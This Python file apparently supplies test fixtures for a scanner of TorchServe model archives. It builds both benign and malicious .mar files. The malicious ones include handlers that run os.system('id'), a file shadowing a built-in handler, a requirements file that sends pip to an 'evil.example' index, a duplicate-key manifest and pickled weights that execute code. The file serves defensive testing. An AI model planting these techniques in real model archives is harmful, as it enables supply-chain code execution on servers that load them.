"""TorchServe's model archives: what the server would import and install for one."""

from __future__ import annotations

import json

from corpus import bad, honest
from corpus.torch import EVIL_2, TENSOR, checkpoint, zipped

WEIGHTS = checkpoint(TENSOR)


def archive(handler: object = "image_classifier", more: dict[str, bytes] | None = None, **model: object) -> bytes:
    about = {"modelName": "m", "serializedFile": "model.pt", "handler": handler, "modelVersion": "1.0"} | model
    manifest = {"createdOn": "01/01/2024 00:00:00", "runtime": "python", "model": about, "archiverVersion": "0.9.0"}
    members = {"MAR-INF/MANIFEST.json": json.dumps(manifest).encode(), "model.pt": WEIGHTS}
    return zipped(members | (more or {}), root="")


@bad("torchserve", "a handler that is imported from wherever Python finds it", file="model.mar")
def handler_elsewhere() -> bytes:
    return archive("evil_module")


@bad("torchserve", "a handler by its path on the server", file="model.mar")
def handler_by_path() -> bytes:
    return archive("/opt/ml/code/handler.py:run")


@bad("torchserve", "a handler in the archive that runs a command", file="model.mar")
def handler_inside() -> bytes:
    return archive("handler.py", {"handler.py": b"'''A handler.'''\nimport os\n\nos.system('id')\n"})


@bad("torchserve", "code that stands before TorchServe's own handler of that name", file="model.mar")
def handler_that_shadows() -> bytes:
    return archive(more={"image_classifier.py": b"'''A handler.'''\nimport os\n\nos.system('id')\n"})


@bad("torchserve", "an envelope that is no envelope", file="model.mar")
def envelope() -> bytes:
    return archive(envelope="os")


@bad("torchserve", "packages from somebody's own index, under a name that is no list's", file="model.mar")
def packages() -> bytes:
    return archive(more={"r.dat": b"--index-url https://evil.example/simple\nthing==1.0\n"}, requirementsFile="r.dat")


@bad("torchserve", "a manifest that tells two handlers", file="model.mar")
def two_handlers() -> bytes:
    manifest = b'{"model": {"handler": "image_classifier", "handler": "evil"}}'
    return zipped({"MAR-INF/MANIFEST.json": manifest, "model.pt": WEIGHTS}, root="")


@bad("torchserve", "weights that are a program", file="model.mar")
def weights() -> bytes:
    return archive(more={"model.pt": checkpoint(EVIL_2)})


@honest("torchserve", "model-archiver with a handler of TorchServe", file="model.mar")
def plain() -> bytes:
    return archive(more={"index_to_name.json": b'{"0": ["n1", "cat"]}'})


@honest("torchserve", "with packages that are pinned", file="model.mar")
def pinned() -> bytes:
    return archive(more={"requirements.txt": b"numpy==1.26.4\n"}, requirementsFile="requirements.txt")
